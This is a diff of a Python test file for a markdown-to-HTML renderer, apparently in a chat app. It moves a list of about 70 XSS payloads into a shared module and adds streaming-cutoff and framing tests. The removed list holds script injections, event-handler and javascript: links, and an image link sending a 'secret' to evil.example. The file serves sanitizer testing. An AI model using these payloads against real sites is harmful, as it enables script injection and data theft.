@@ -10,83 +10,11 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from conversations.markdown import ATTRIBUTES, TAGS, render
+from tests.attacks import ATTACKS
 from tests.cases import dozens, whole_texts
 
-HOSTILE = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<style>*{background:url(//evil.example)}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<base href=//evil.example>",
-    "<form action=//evil.example><input name=q>",
-    "<p style=background:url(//evil.example)>x",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?><script>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\nscript:alert(1))",
-    "[x](java&#10;script:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](%6aavascript:alert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://evil.example/1)",
-    '[x](https://evil.example "onmouseover=alert(1)")',
-    '[x](https://evil.example"onmouseover="alert(1))',
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    '<https://evil.example/"onclick="alert(1)>',
-    "![x](https://evil.example/?q=secret)",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
-    "![<img src=x>](https://evil.example)",
-    '![" onerror="alert(1)](https://evil.example)',
-    '![x](https://evil.example/"><script>alert(1)</script>)',
-    "[![x](https://evil.example/a.png)](javascript:alert(1))",
-    "![x][y]\n\n[y]: https://evil.example/a.png",
-    '```"><script>alert(1)</script>\ncode\n```',
-    '```js" onclick="alert(1)\ncode\n```',
-    "`<script>alert(1)</script>`",
-    "    <script>alert(1)</script>",
-    "| <script>x</script> | ![x](//evil.example) |\n|---|---|\n| <img src=x> | [x](javascript:1) |",
-    "- [x] <img src=x onerror=alert(1)>",
-    "- [ ](javascript:alert(1))",
-    "https://evil.example/<script>alert(1)</script>",
-    'https://evil.example/"onmouseover="alert(1)',
-    "www.evil.example/'onmouseover='alert(1)",
-    "# <script>alert(1)</script>",
-    "> <img src=x onerror=alert(1)>",
-    "[x](http://[)",
-    "[x](http://[::1)",
-    "<http://a]b>",
-    "[x](http://\u2100.example)",
-    "[x](//evil.example)",
-    "[x](https://good.example@evil.example)",
-    "[x](http://exa\u202emple.org)",
-    "\x00<script>",
-    "\ufeff<script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<a/href='&#x6a;avascript:alert(1)'>x",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<object data=//evil.example><embed src=//evil.example>",
-    "<input autofocus onfocus=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-)
 FRAGMENTS = (
-    *HOSTILE,
+    *ATTACKS,
     *(
         "<",
         ">",
@@ -166,7 +94,7 @@ def assert_harmless(html: str) -> None:
         assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | {"rel"}
         assert not any(name.startswith("on") or name in ("style", "src", "srcset", "id", "name") for name in attributes)
         if tag == "a" and "href" in attributes:
-            assert urlsplit(attributes["href"] or "").scheme in ("http", "https", "mailto", "")
+            assert urlsplit(attributes["href"] or "").scheme in ("http", "https", "mailto")
             assert attributes["rel"] == "noopener noreferrer"
             assert attributes["target"] == "_blank"
         if tag == "input":
@@ -174,17 +102,20 @@ def assert_harmless(html: str) -> None:
             assert "disabled" in attributes
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-def test_hostile_words_are_harmless(text: str) -> None:
-    assert_harmless(render(text))
+FRAMES = ["**{}**", "> {}", "- {}", "1. {}", "# {}", "[{}](https://a.example)", "| {} |\n|-|", "~~{}~~"]
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-@pytest.mark.parametrize(
-    "frame", ["**{}**", "> {}", "- {}", "1. {}", "# {}", "[{}](https://a.example)", "| {} |\n|-|", "~~{}~~"]
-)
-def test_hostile_words_are_harmless_wherever_they_stand(text: str, frame: str) -> None:
-    assert_harmless(render(frame.format(text)))
+def test_there_are_attacks_of_every_kind() -> None:
+    assert len(ATTACKS) >= 150
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_hostile_words_are_harmless_cut_off_and_wherever_they_stand(text: str) -> None:
+    """As they are while they stream; the page's own renderer is tried at every character, see tests/browser/test_attacks.py."""
+    for end in (*range(1, len(text), 5), len(text)):
+        assert_harmless(render(text[:end]))
+    for frame in FRAMES:
+        assert_harmless(render(frame.format(text)))
 
 
 @dozens
@@ -198,13 +129,6 @@ def test_whatever_is_said_is_harmless(text: str) -> None:
 @given(st.text(st.sampled_from("<>\"'`()[]!|\\&:/#*_-~ \nahtps.@1"), max_size=60))
 def test_any_markup_is_harmless(text: str) -> None:
     assert_harmless(render(text))
-
-
-@dozens
-@given(st.sampled_from(HOSTILE), st.integers(0, 100))
-def test_a_reply_cut_anywhere_is_harmless(text: str, cut: int) -> None:
-    """As it is while it streams."""
-    assert_harmless(render(text[: cut % (len(text) + 1)]))
 
 
 # What must stay
